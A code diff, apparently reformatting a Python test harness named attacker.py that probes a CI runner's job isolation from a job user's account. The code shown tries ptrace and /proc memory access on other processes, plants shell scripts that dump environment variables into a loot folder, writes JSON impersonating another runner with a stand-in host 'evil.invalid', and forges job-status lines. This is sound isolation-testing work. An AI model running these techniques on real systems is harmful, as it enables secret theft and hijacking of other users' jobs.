@@ -1,9 +1,12 @@
-"""The job of an attacker, as a program of its own: run by a job's user, it tries all that it can reach on the machine.
+"""The job of an attacker, as a program of its own: run by a job's user, it tries all that it can
+reach on the machine.
 
     python3 attacker.py FACTS     a JSON file: `home` of the agent, `loot` (a folder for what was found), `victim` (a folder of root's),
-                                  `variant`, `names` (of files that the agent makes or reads), `other` (ids that are not this job's)
+                                  `variant`, `names` (of files that the agent makes or reads),
+                                  `other` (ids that are not this job's)
 
-Standard library only, any Python from 3.9. It counts what it tried, and writes down what it should not have got.
+Standard library only, any Python from 3.9. It counts what it tried, and writes down what it
+should not have got.
 """
 
 from __future__ import annotations
@@ -24,7 +27,11 @@ MOST = 1 << 20
 class Attacker:
     def __init__(self, facts: dict[str, Any]) -> None:
         self.facts, self.tried = facts, 0
-        self.home, self.loot, self.victim = Path(facts["home"]), Path(facts["loot"]), Path(facts["victim"])
+        self.home, self.loot, self.victim = (
+            Path(facts["home"]),
+            Path(facts["loot"]),
+            Path(facts["victim"]),
+        )
         self.gains: list[str] = []
 
     # --- what can be read
@@ -75,7 +82,10 @@ class Attacker:
                 continue
             pid = int(process.name)
             self.should_fail("signal %d" % pid, lambda: os.kill(pid, 0))  # noqa: B023  called at once
-            self.should_fail("open memory of %d" % pid, lambda: os.close(os.open("/proc/%d/mem" % pid, os.O_RDWR)))  # noqa: B023
+            self.should_fail(
+                "open memory of %d" % pid,
+                lambda: os.close(os.open("/proc/%d/mem" % pid, os.O_RDWR)),  # noqa: B023
+            )
             self.tried += 1
             if libc.ptrace(PTRACE_ATTACH, pid, 0, 0) == 0:
                 libc.ptrace(PTRACE_DETACH, pid, 0, 0)
@@ -92,15 +102,23 @@ class Attacker:
     # --- what can be put in the way
 
     def plant(self) -> None:
-        """In every folder that this user may write: everything that is there, and every name that the agent knows, becomes
-        something else; what may only be written is written over."""
-        for folder in [path for path in (self.home, *self.everything(self.home)) if os.path.isdir(str(path)) and not os.path.islink(str(path))]:
+        """In every folder that this user may write: everything that is there, and every name
+        that the agent knows, becomes something else; what may only be written is written over."""
+        for folder in [
+            path
+            for path in (self.home, *self.everything(self.home))
+            if os.path.isdir(str(path)) and not os.path.islink(str(path))
+        ]:
             if not os.access(str(folder), os.W_OK | os.X_OK):
                 continue
-            for name in sorted({*(path.name for path in self.inside(folder)), *self.facts["names"]}):
+            for name in sorted(
+                {*(path.name for path in self.inside(folder)), *self.facts["names"]}
+            ):
                 self.put(folder / name)
         for path in self.everything(self.home):
-            only_written = os.access(str(path), os.W_OK) and not os.access(str(path.parent), os.W_OK)
+            only_written = os.access(str(path), os.W_OK) and not os.access(
+                str(path.parent), os.W_OK
+            )
             if os.path.isfile(str(path)) and not os.path.islink(str(path)) and only_written:
                 self.tried += 1
                 with path.open("a") as file:
@@ -145,18 +163,30 @@ class Attacker:
             file.truncate(1 << 40)
 
     def put_text(self, path: Path) -> None:
-        """A program that tells who runs it and with what; for what reads JSON, the ids of another runner."""
+        """A program that tells who runs it and with what; for what reads JSON, the ids of
+        another runner."""
         if path.suffix in ("", ".sh") and not path.name.startswith("."):
             told = self.loot / ("ran-%s" % path.name)
-            path.write_text("#!/bin/sh\n{ id -u; env; cat /proc/self/environ; } >> '%s' 2>&1\nexit 0\n" % told)
+            path.write_text(
+                "#!/bin/sh\n{ id -u; env; cat /proc/self/environ; } >> '%s' 2>&1\nexit 0\n" % told
+            )
             path.chmod(0o755)
         else:
             other = self.facts["other"]
-            path.write_text(json.dumps({"agentId": other["runner"], "poolId": 1, "agentName": "theirs", "serverUrl": "http://evil.invalid"}))
+            path.write_text(
+                json.dumps(
+                    {
+                        "agentId": other["runner"],
+                        "poolId": 1,
+                        "agentName": "theirs",
+                        "serverUrl": "http://evil.invalid",
+                    }
+                )
+            )
 
     def lines(self) -> str:
-        """For whatever believes lines of jobs: other repositories, other runs of this one; also what is no number, or has no
-        end. What is believed the most easily comes last."""
+        """For whatever believes lines of jobs: other repositories, other runs of this one; also
+        what is no number, or has no end. What is believed the most easily comes last."""
         other, own = self.facts["other"], self.facts["repository"]
         odd = [
             "started\t%s\t%s\t%s\tx" % (repository, run, attempt)
@@ -164,8 +194,15 @@ class Attacker:
             for run in ("0", "-1", "9" * 5000, "1/../2", "٣", "")
             for attempt in ("1", "٣", "9" * 50)
         ]
-        whole = ["started\t%s\t%s\t1\tx" % (repository, run) for run in other["runs"] for repository in ("victim/prod-deploy", own)]
-        return "\n%s\n%s\n" % ("\n".join([*odd, "\x00\xff", "y" * 70000]) if self.facts["variant"] == "huge" else "", "\n".join(whole))
+        whole = [
+            "started\t%s\t%s\t1\tx" % (repository, run)
+            for run in other["runs"]
+            for repository in ("victim/prod-deploy", own)
+        ]
+        return "\n%s\n%s\n" % (
+            "\n".join([*odd, "\x00\xff", "y" * 70000]) if self.facts["variant"] == "huge" else "",
+            "\n".join(whole),
+        )
 
     def report(self) -> None:
         told = {"tried": self.tried, "gains": self.gains}
